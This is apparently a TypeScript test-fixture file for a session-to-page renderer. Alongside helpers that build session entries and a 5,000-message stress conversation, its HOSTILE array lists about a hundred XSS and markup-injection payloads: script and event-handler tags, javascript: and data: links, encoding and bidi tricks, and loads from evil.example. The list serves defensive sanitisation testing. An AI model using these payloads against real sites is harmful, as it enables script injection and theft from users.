// The file of a session as zz writes it, for pages: what was said, with parents of one's choice.
import type { Entry, Header } from "zz";
import { put } from "../../../test/support/files.ts";
import type { Place } from "../../../test/support/run.ts";

export const ID = "20260128-120000-page1234";
const AT = "2026-01-28T12:00:00.000Z";

type Part = Partial<Entry> & Pick<Entry, "type">;
export const said = (role: "user" | "assistant", text: string, more: object = {}): Part => ({
  type: "message",
  message: { role, text, ...more } as NonNullable<Entry["message"]>,
});

/** Each part follows the one before it, unless it names its parent. */
export function saveSession(where: Place, parts: Part[], title = "A talk"): string {
  const header: Header = { zz: 1, id: ID, at: AT, root: where.cwd, model: "script/n", title };
  const entries = parts.map((part, index) => ({
    id: index + 1,
    parent: index || null,
    at: AT,
    ...part,
  }));
  const lines = [header, ...entries].map((line) => `${JSON.stringify(line)}\n`);
  put(where.home, { [`sessions/${ID}.jsonl`]: lines.join("") });
  return ID;
}

/** A change of a file as the session keeps it: its whole text before, and what stands there then. */
export const changed = (path: string, before: string | null, after: string | null): Part => ({
  type: "change",
  change: 1,
  group: 1,
  turn: 1,
  tool: "edit_file",
  path,
  was: before === null ? null : "a",
  is: after === null ? null : "b",
  modes: [0, 0],
  ...(before !== null && { base: { text: before } }),
  place: 0,
  cut: before?.length ?? 0,
  put: { text: after ?? "" },
  made: [],
});

/** Markup, addresses and characters that must not do anything on a page. */
export const HOSTILE = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror='window.hacked = 1'>",
  "<svg onload='window.hacked = 1'></svg>",
  "<style>body{display:none}</style>",
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  "<base href='https://evil.example/'>",
  "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
  "<form action='https://evil.example/'><button>Save</button></form>",
  "<details open ontoggle='window.hacked = 1'>x</details>",
  "<a href='javascript:window.hacked = 1' autofocus onfocus='window.hacked = 1'>x</a>",
  "[x](javascript:window.hacked=1)",
  "[x](data:text/html,<script>window.hacked=1</script>)",
  "[x](  JaVaScRiPt:window.hacked=1)",
  "[x](&#106;avascript:window.hacked=1)",
  "[x](vbscript:window.hacked)",
  '[x](https://evil.example/"onmouseover="window.hacked=1)',
  "![x](https://evil.example/pixel.png)",
  "![x](javascript:window.hacked=1)",
  '![" onerror="window.hacked=1](x)',
  "<https://evil.example/?'><script>window.hacked=1</script>",
  "<javascript:window.hacked=1>",
  "```html\n</code></pre><script>window.hacked=1</script>\n```",
  '```"><script>window.hacked=1</script>\nx\n```',
  "`</code><script>window.hacked=1</script>`",
  "</article></main><script>window.hacked=1</script>",
  "--></style></script><script>window.hacked=1</script>",
  "| <script>window.hacked=1</script> | x |\n|---|---|\n| <img src=x onerror=window.hacked=1> | y |",
  "# <script>window.hacked=1</script>",
  "> <script>window.hacked=1</script>",
  "- [ ] <script>window.hacked=1</script>",
  "<div>\n<script>window.hacked=1</script>\n</div>",
  "<pre>\n<script>window.hacked=1</script>\n</pre>",
  "<!-- <script>window.hacked=1</script> -->",
  "<![CDATA[<script>window.hacked=1</script>]]>",
  "\u202egpj.exe\u202c \u2066x\u2069 \u200fabc",
  "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[2J",
  "&lt;script&gt;window.hacked=1&lt;/script&gt;",
  "[a]: javascript:window.hacked=1\n\n[a]",
  "[a]: https://evil.example '\"onload=\"window.hacked=1'\n\n![a]",
  "<math><mtext><script>window.hacked=1</script></mtext></math>",
  "<video><source onerror='window.hacked=1'></video>",
  "<audio src=x onerror='window.hacked=1'></audio>",
  "<object data='javascript:window.hacked=1'></object>",
  "<embed src='javascript:window.hacked=1'>",
  "<link rel=stylesheet href='https://evil.example/a.css'>",
  "<link rel=preload as=image href='https://evil.example/a.png'>",
  "<input autofocus onfocus='window.hacked=1'>",
  "<select autofocus onfocus='window.hacked=1'></select>",
  "<textarea autofocus onfocus='window.hacked=1'></textarea>",
  "<marquee onstart='window.hacked=1'>x</marquee>",
  "<body onload='window.hacked=1'>",
  "<html onmouseover='window.hacked=1'>",
  "<template><script>window.hacked=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
  "<svg><animate onbegin='window.hacked=1' attributeName=x dur=1s></svg>",
  "<svg><a xlink:href='javascript:window.hacked=1'><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'></use></svg>",
  "<svg><foreignObject><script>window.hacked=1</script></foreignObject></svg>",
  "<svg><style>*{display:none}</style></svg>",
  "<svg><script href='data:,window.hacked=1'></script></svg>",
  "<img src='data:image/svg+xml,<svg onload=window.hacked=1>'>",
  "<img srcset='https://evil.example/a.png 1x'>",
  "<picture><source srcset='https://evil.example/a.png'><img></picture>",
  "<div style='background:url(https://evil.example/a.png)'>x</div>",
  "<div style='position:fixed;inset:0;background:red'>x</div>",
  "<p hidden id=talk>x</p>",
  "<form id=words><input name=value></form>",
  "<a id=hits name=hits>x</a>",
  "<button onclick='window.hacked=1' autofocus>x</button>",
  "<button formaction='javascript:window.hacked=1'>x</button>",
  "<dialog open onclose='window.hacked=1'>x</dialog>",
  "<div popover onbeforetoggle='window.hacked=1'>x</div>",
  "<meta http-equiv='Content-Security-Policy' content=\"script-src *\">",
  "<frameset onload='window.hacked=1'></frameset>",
  "<iframe src='javascript:parent.hacked=1'></iframe>",
  "<portal src='https://evil.example/'></portal>",
  "<script src='https://evil.example/a.js'></script>",
  "<script type=module>window.hacked=1</script>",
  "<script\n>window.hacked=1</script\n>",
  "<scr\u0000ipt>window.hacked=1</scr\u0000ipt>",
  "<<script>script>window.hacked=1<</script>/script>",
  '<IMG """><SCRIPT>window.hacked=1</SCRIPT>">',
  "<img/src=x/onerror=window.hacked=1>",
  "<a href='jav&#x09;ascript:window.hacked=1'>x</a>",
  "[x](java\tscript:window.hacked=1)",
  "[x](\u0001javascript:window.hacked=1)",
  "[x](javascript&colon;window.hacked=1)",
  "[x](blob:https://evil.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/a)",
  "[x](https://evil.example/ 'a\" onmouseover=\"window.hacked=1')",
  "[<img src=x onerror=window.hacked=1>](https://evil.example/)",
  "[![x](https://evil.example/a.png)](javascript:window.hacked=1)",
  "~~<script>window.hacked=1</script>~~ **<b onclick=window.hacked=1>x</b>**",
  "1. <script>window.hacked=1</script>\n   - <svg onload=window.hacked=1>",
  "\u2067rtl <script>window.hacked=1</script>\u2069 \u061c \u200e",
  `${"[".repeat(5_000)}x`,
  `${"> ".repeat(2_000)}x`,
  `${"*a ".repeat(5_000)}`,
  `${"`".repeat(3_000)}x`,
];

/** A conversation of 5,000 messages. */
export const ENDLESS: Part[] = Array.from({ length: 2_500 }, (_, i) => [
  said("user", `question ${i}`),
  said("assistant", `answer ${i}\n\n\`\`\`ts\nconst a = ${i};\n\`\`\``),
]).flat();
